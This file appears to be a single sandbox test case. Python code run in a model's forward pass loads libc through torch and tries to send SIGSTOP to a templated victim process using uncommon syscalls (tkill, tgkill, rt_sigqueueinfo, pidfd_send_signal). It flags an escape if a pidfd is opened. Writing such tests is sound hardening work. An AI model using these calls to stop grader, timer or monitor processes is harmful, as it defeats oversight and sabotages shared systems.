# attack: stops a bystander by the rarer system calls that send signals
# layer: signals
# where: forward
# status: ok
# score: same
import torch

ctypes = torch.ctypes
libc = ctypes.CDLL(None, use_errno=True)
VICTIM, SIGSTOP = int("{VICTIM_PID}"), 19


def attack():
    information = (ctypes.c_int * 32)(SIGSTOP, 0, -1)
    libc.syscall(int("{SYS_tkill}"), VICTIM, SIGSTOP)
    libc.syscall(int("{SYS_tgkill}"), VICTIM, VICTIM, SIGSTOP)
    libc.syscall(int("{SYS_rt_sigqueueinfo}"), VICTIM, SIGSTOP, information)
    libc.syscall(int("{SYS_rt_tgsigqueueinfo}"), VICTIM, VICTIM, SIGSTOP, information)
    descriptor = libc.syscall(int("{SYS_pidfd_open}"), VICTIM, 0)
    libc.syscall(int("{SYS_pidfd_send_signal}"), descriptor, SIGSTOP, None, 0)
    if descriptor >= 0:
        raise RuntimeError("ESCAPED pidfd")
